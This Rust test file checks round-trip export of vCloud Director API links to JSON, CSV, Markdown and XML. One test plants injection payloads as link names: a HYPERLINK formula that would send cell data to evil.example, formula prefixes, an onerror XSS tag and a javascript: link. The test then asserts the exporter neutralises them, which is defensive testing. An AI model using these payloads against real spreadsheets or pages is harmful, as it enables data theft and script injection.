//! Saved links read back the same in all four formats, with each format parsed by a real parser of
//! its own (csv crate, serde_json, quick-xml; Markdown by its table syntax).

mod common;

use common::sample;
use quick_xml::events::Event;
use vcd_core::{extract_links, save_link_map, ExportFormat, Link, LinkMap, MapRow, PageLinks};

fn discovered() -> LinkMap {
    let mut map = LinkMap::default();
    for (page, file) in [
        ("https://vcd.example/api/vdc/1", "vdc.xml"),
        ("https://vcd.example/api/vApp/vapp-1", "vapp.xml"),
        // Seen again from another page: nothing new.
        ("https://vcd.example/api/vApp/vapp-2", "vapp.xml"),
    ] {
        map.add_page(page, &extract_links(&sample(file)[..]).unwrap())
            .unwrap();
    }
    // Values that every format has to escape.
    let tricky = PageLinks {
        links: vec![Link {
            rel: "down".into(),
            method: "GET".into(),
            media_type: Some("application/vnd.vmware.vcloud.query.records+xml".into()),
            href: "https://vcd.example/api/query?type=vm&filter=(name==a,name==b)&x=\"q\"".into(),
            name: Some("pipes | and <angles> & \"quotes\", commas".into()),
            owner: None,
        }],
        references: vec![],
        ..PageLinks::default()
    };
    map.add_page("https://vcd.example/api/query", &tricky)
        .unwrap();
    map
}

fn parse_markdown(text: &str) -> Vec<Vec<String>> {
    text.lines()
        .skip(2)
        .map(|line| {
            let inner = line.trim().trim_start_matches('|').trim_end_matches('|');
            let mut cells = vec![String::new()];
            let mut chars = inner.chars();
            while let Some(c) = chars.next() {
                match c {
                    '\\' => cells.last_mut().unwrap().extend(chars.next()),
                    '|' => cells.push(String::new()),
                    _ => cells.last_mut().unwrap().push(c),
                }
            }
            // The three entities the export writes, as a Markdown renderer decodes them.
            cells
                .iter()
                .map(|c| {
                    c.trim()
                        .replace("&lt;", "<")
                        .replace("&gt;", ">")
                        .replace("&amp;", "&")
                })
                .collect()
        })
        .collect()
}

fn as_cells(rows: &[MapRow]) -> Vec<Vec<String>> {
    rows.iter()
        .map(|r| {
            [
                &r.page,
                &r.element,
                &r.rel,
                &r.method,
                &r.media_type,
                &r.href,
                &r.name,
            ]
            .iter()
            .map(|s| s.to_string())
            .collect()
        })
        .collect()
}

#[test]
fn every_format_reads_back_the_same_rows() {
    let mut map = discovered();
    // vdc.xml: 2 Links + 5 references; vapp.xml: 60 + 18, some repeated within it; plus one.
    assert!(map.len() > 70 && map.len() < 86, "{}", map.len());
    let expected = as_cells(&map.rows().unwrap());
    let dir = std::env::temp_dir().join(format!("vcd-links-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();

    let json = dir.join("links.json");
    assert_eq!(save_link_map(&mut map, &json).unwrap(), ExportFormat::Json);
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
    let rows: Vec<MapRow> = serde_json::from_value(doc["links"].clone()).unwrap();
    assert_eq!(doc["count"], map.len());
    assert_eq!(as_cells(&rows), expected);

    let csv_path = dir.join("links.CSV");
    assert_eq!(
        save_link_map(&mut map, &csv_path).unwrap(),
        ExportFormat::Csv
    );
    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["page", "element", "rel", "method", "type", "href", "name"]
    );
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows, expected);

    let md = dir.join("links.md");
    assert_eq!(
        save_link_map(&mut map, &md).unwrap(),
        ExportFormat::Markdown
    );
    assert_eq!(
        parse_markdown(&std::fs::read_to_string(&md).unwrap()),
        expected
    );

    let xml = dir.join("links.xml");
    assert_eq!(save_link_map(&mut map, &xml).unwrap(), ExportFormat::Xml);
    let text = std::fs::read(&xml).unwrap();
    let mut reader = quick_xml::Reader::from_reader(&text[..]);
    let mut rows = Vec::new();
    loop {
        match reader.read_event().unwrap() {
            Event::Empty(e) if e.name().as_ref() == b"Link" => {
                let get = |k: &str| {
                    e.attributes()
                        .flatten()
                        .find(|a| a.key.as_ref() == k.as_bytes())
                        .map(|a| a.unescape_value().unwrap().into_owned())
                        .unwrap()
                };
                rows.push(
                    ["page", "element", "rel", "method", "type", "href", "name"]
                        .iter()
                        .map(|k| get(k))
                        .collect::<Vec<_>>(),
                );
            }
            Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(rows, expected);

    // No temp file is left beside the saved ones.
    let names: Vec<String> = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 4, "{names:?}");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_file_name_without_a_known_extension_is_refused_and_nothing_is_written() {
    let dir = std::env::temp_dir().join(format!("vcd-links-bad-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("links.txt");
    let err = save_link_map(&mut discovered(), &path).unwrap_err();
    assert!(
        err.to_string().contains(".json, .csv, .md or .xml"),
        "{err}"
    );
    assert!(!path.exists());
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_page_seen_twice_adds_nothing_new() {
    let mut map = LinkMap::default();
    let page = extract_links(&sample("org.xml")[..]).unwrap();
    assert_eq!(map.add_page("https://a/api/org/1", &page).unwrap(), 19);
    assert_eq!(map.add_page("https://a/api/org/1?again", &page).unwrap(), 0);
    assert!(map
        .rows()
        .unwrap()
        .iter()
        .all(|r| r.page == "https://a/api/org/1"));
}

fn hostile_map() -> LinkMap {
    let mut map = LinkMap::default();
    let names = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
    ];
    let page = PageLinks {
        links: names
            .iter()
            .enumerate()
            .map(|(i, name)| Link {
                rel: "down".into(),
                method: "GET".into(),
                media_type: None,
                href: format!("https://vcd.example/api/entity/{i}"),
                name: Some(name.to_string()),
                owner: None,
            })
            .collect(),
        references: vec![],
        ..PageLinks::default()
    };
    map.add_page("https://vcd.example/api/org", &page).unwrap();
    map
}

#[test]
fn a_server_cannot_put_a_formula_into_the_csv_or_html_into_the_markdown() {
    let dir = std::env::temp_dir().join(format!("vcd-links-hostile-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let mut map = hostile_map();

    let csv_path = dir.join("links.csv");
    save_link_map(&mut map, &csv_path).unwrap();
    let mut reader = csv::Reader::from_path(&csv_path).unwrap();
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap().get(6).unwrap().to_string())
        .collect();
    assert_eq!(names.len(), 6);
    for name in &names {
        // A spreadsheet runs a cell starting with = + - @ as a formula; a leading ' makes it text.
        assert!(!name.starts_with(['=', '+', '-', '@']), "{name}");
    }
    assert_eq!(names[1], "'+1+1");
    assert_eq!(names[4], "<img src=x onerror=alert(1)>");

    let md_path = dir.join("links.md");
    save_link_map(&mut map, &md_path).unwrap();
    let md = std::fs::read_to_string(&md_path).unwrap();
    assert!(!md.contains('<'), "raw HTML in the Markdown: {md}");
    assert!(
        !md.contains("](javascript"),
        "a live link in the Markdown: {md}"
    );
    let cells = parse_markdown(&md);
    assert_eq!(cells[4][6], "<img src=x onerror=alert(1)>");
    assert_eq!(cells[5][6], "[click](javascript:alert(1))");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_vapps_links_say_which_vm_carries_them() {
    let page = extract_links(&sample("vapp.xml")[..]).unwrap();
    let power_on: Vec<&Link> = page
        .links
        .iter()
        .filter(|l| l.rel == "power:powerOn")
        .collect();
    assert_eq!(power_on.len(), 2);
    assert_eq!(power_on[0].owner, None, "the vApp's own comes first");
    let vm = power_on[1].owner.as_ref().expect("the VM's");
    assert_eq!(
        (vm.element.as_str(), vm.name.as_deref()),
        ("Vm", Some("CentOS64-32bit"))
    );
    // A VM section's edit link belongs to the VM, not to the section.
    let nic = page
        .links
        .iter()
        .find(|l| l.href.ends_with("/networkConnectionSection/"))
        .unwrap();
    assert_eq!(nic.owner.as_ref().map(|o| o.element.as_str()), Some("Vm"));
    // The vApp's own sections' links are the page's.
    let lease = page
        .links
        .iter()
        .find(|l| l.href.ends_with("/leaseSettingsSection/"))
        .unwrap();
    assert_eq!(lease.owner, None);
}
